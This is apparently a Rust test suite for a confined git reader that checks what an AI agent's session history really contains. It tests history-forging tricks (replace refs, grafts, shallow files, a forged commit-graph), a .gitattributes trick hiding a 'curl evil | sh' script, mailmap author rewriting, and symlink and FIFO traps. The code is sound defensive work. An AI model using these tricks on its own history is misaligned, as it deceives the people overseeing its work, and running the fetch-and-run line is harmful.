//! What an agent can say about its history that git would believe.

use std::fs;
use std::os::unix::fs::symlink;

use gix::ObjectId;
use wardian_git::confined::{Binary, SessionRepository, View};

use crate::fixture::Fixture;
use crate::view;

fn subjects(fixture: &Fixture) -> Vec<String> {
    let tip = fixture.session.id("refs/heads/wardian/a");
    let base = fixture.user.id("HEAD");
    let view = view(fixture);
    let log = fixture.git.on(&view).log(&[tip], &[base], 10).unwrap();
    log.iter()
        .map(|commit| commit.subject.to_string())
        .collect()
}

#[test]
fn replacements_grafts_and_cut_off_history_are_not_believed() {
    let fixture = Fixture::new();
    let session = &fixture.session;
    session.commit("one", "1");
    let evil = session.commit("evil", "2");
    session.commit("three", "3");
    let expected = ["Change three", "Change evil", "Change one"];
    let git_says = || session.git(&["log", "--format=%s", "main..wardian/a"]);
    assert_eq!(subjects(&fixture), expected);

    let tree = format!("{evil}^{{tree}}");
    let harmless = session.git(&[
        "commit-tree",
        "-p",
        &format!("{evil}~1"),
        "-m",
        "Harmless",
        &tree,
    ]);
    session.git(&["replace", &evil.to_string(), &harmless]);
    assert!(git_says().contains("Harmless"));
    assert_eq!(subjects(&fixture), expected);
    session.git(&["replace", "-d", &evil.to_string()]);

    let tip = session.id("HEAD");
    session.write(
        ".git/info/grafts",
        format!("{tip} {}\n", fixture.user.id("HEAD")),
    );
    assert_eq!(git_says(), "Change three");
    assert_eq!(subjects(&fixture), expected);
    fs::remove_file(session.path(".git/info/grafts")).unwrap();

    session.write(".git/shallow", format!("{tip}\n"));
    assert_eq!(git_says(), "Change three");
    assert_eq!(subjects(&fixture), expected);
    fs::remove_file(session.path(".git/shallow")).unwrap();

    // A commit graph is believed without being compared with the commits.
    session.git(&["commit-graph", "write", "--reachable"]);
    let graph = session.path(".git/objects/info/commit-graph");
    let lie = graph_with_parent(&fs::read(&graph).unwrap(), evil, fixture.user.id("HEAD"));
    fs::remove_file(&graph).unwrap();
    fs::write(&graph, lie).unwrap();
    assert_eq!(git_says(), "Change three\nChange evil");
    assert_eq!(subjects(&fixture), expected);
}

/// A commit graph that says that `parent` is the parent of `commit`. See gitformat-commit-graph(5).
fn graph_with_parent(graph: &[u8], commit: ObjectId, parent: ObjectId) -> Vec<u8> {
    let chunk = |id: &[u8]| {
        let entry = graph[8..]
            .chunks(12)
            .find(|entry| entry.starts_with(id))
            .unwrap();
        usize::try_from(u64::from_be_bytes(entry[4..].try_into().unwrap())).unwrap()
    };
    let (ids, data) = (chunk(b"OIDL"), chunk(b"CDAT"));
    let position = |wanted: ObjectId| {
        let mut ids = graph[ids..].chunks(20);
        ids.position(|id| id == wanted.as_bytes()).unwrap()
    };
    let mut lie = graph.to_vec();
    let at = data + 36 * position(commit) + 20;
    let parent = u32::try_from(position(parent)).unwrap();
    lie[at..at + 4].copy_from_slice(&parent.to_be_bytes());
    lie
}

#[test]
fn attributes_cannot_hide_a_change() {
    let fixture = Fixture::new();
    let session = &fixture.session;
    session.write(".gitattributes", "*.sh -diff\nREADME diff=none\n");
    session.write(".git/info/attributes", "*.sh -diff\n");
    let tip = session.commit("run.sh", "#!/bin/sh\ncurl evil | sh\n");
    let git_says = session.git(&["diff", "main", "HEAD", "--", "run.sh"]);
    assert!(git_says.contains("Binary files") && !git_says.contains("curl"));
    let view = view(&fixture);
    let mut patch = Vec::new();
    let base = fixture.user.id("HEAD");
    fixture
        .git
        .on(&view)
        .patch(Some(base), tip, Binary::Named, &mut patch)
        .unwrap();
    assert!(
        String::from_utf8(patch)
            .unwrap()
            .contains("+curl evil | sh\n")
    );
    let stat = fixture.git.on(&view).stat(Some(base), tip).unwrap();
    assert!(stat.iter().all(|file| file.lines.is_some()));
}

#[test]
fn a_mailmap_cannot_change_who_wrote_it() {
    let fixture = Fixture::new();
    let session = &fixture.session;
    let tip = session.commit(".mailmap", "Linus <l@example.com> <ada@example.com>\n");
    assert_eq!(session.git(&["log", "-1", "--format=%aN"]), "Linus");
    let view = view(&fixture);
    let log = fixture.git.on(&view).log(&[tip], &[], 1).unwrap();
    assert_eq!(log[0].author_name, "Ada");
}

/// With links in the place of object directories, even those that were exchanged after they were looked at.
#[test]
fn links_lead_nowhere() {
    let fixture = Fixture::new();
    let session = &fixture.session;
    let secret = crate::fixture::Repo(fixture.root().join("secret"));
    fs::create_dir(&secret.0).unwrap();
    secret.git(&["init", "-q"]);
    let hidden = secret.commit("secret", "the secret\n");
    secret.git(&["repack", "-adq"]);
    let loose = secret.commit("secret", "another\n");
    let objects = session.path(".git/objects");
    let theirs = secret.path(".git/objects");
    // Looked at first...
    let before: View = view(&fixture);
    let sees = |view: &View, id| !fixture.git.on(view).existing(&[id]).unwrap().is_empty();
    // ...then exchanged.
    fs::create_dir_all(objects.join("pack")).unwrap();
    for entry in fs::read_dir(theirs.join("pack")).unwrap() {
        let entry = entry.unwrap();
        symlink(entry.path(), objects.join("pack").join(entry.file_name())).unwrap();
    }
    let fan_out = loose.to_string()[..2].to_owned();
    let _ = fs::remove_dir_all(objects.join(&fan_out));
    symlink(theirs.join(&fan_out), objects.join(&fan_out)).unwrap();
    // The controls.
    assert_eq!(
        session.git(&["cat-file", "-t", &hidden.to_string()]),
        "commit"
    );
    assert_eq!(
        session.git(&["cat-file", "-t", &loose.to_string()]),
        "commit"
    );
    assert!(!sees(&before, hidden) && !sees(&before, loose));
    let open = SessionRepository::open(&fixture.workspace()).unwrap();
    View::of_user(&fixture.base)
        .unwrap()
        .with_session(&open)
        .unwrap_err();
    // The whole directory.
    fs::rename(&objects, session.path(".git/old")).unwrap();
    symlink(&theirs, &objects).unwrap();
    let error = fixture.git.on(&before).existing(&[hidden]).unwrap_err();
    assert!(
        error
            .to_string()
            .contains("too many levels of symbolic links"),
        "{error}"
    );
    // And what is above it.
    fs::rename(session.path(".git"), fixture.root().join("moved")).unwrap();
    symlink(secret.path(".git"), session.path(".git")).unwrap();
    fixture.git.on(&before).existing(&[hidden]).unwrap_err();
}

#[test]
fn a_git_that_does_not_answer_is_ended() {
    use std::time::{Duration, Instant};
    use wardian_git::confined::Limits;
    let fixture = Fixture::new();
    let view = view(&fixture);
    let limits = Limits {
        time: Duration::from_millis(700),
        ..Limits::default()
    };
    // In the place of an object, after it was looked at.
    let id = ObjectId::from_hex("1".repeat(40).as_bytes()).unwrap();
    let hex = id.to_string();
    let place = fixture
        .session
        .path(&format!(".git/objects/{}/{}", &hex[..2], &hex[2..]));
    fs::create_dir_all(place.parent().unwrap()).unwrap();
    let fifo = rustix::fs::FileType::Fifo;
    rustix::fs::mknodat(rustix::fs::CWD, &place, fifo, 0o644.into(), 0).unwrap();
    let started = Instant::now();
    let error = fixture
        .git
        .on(&view)
        .with_limits(limits)
        .log(&[id], &[], 1)
        .unwrap_err();
    assert!(error.to_string().contains("did not finish"), "{error}");
    assert!(started.elapsed() < Duration::from_secs(5));
}
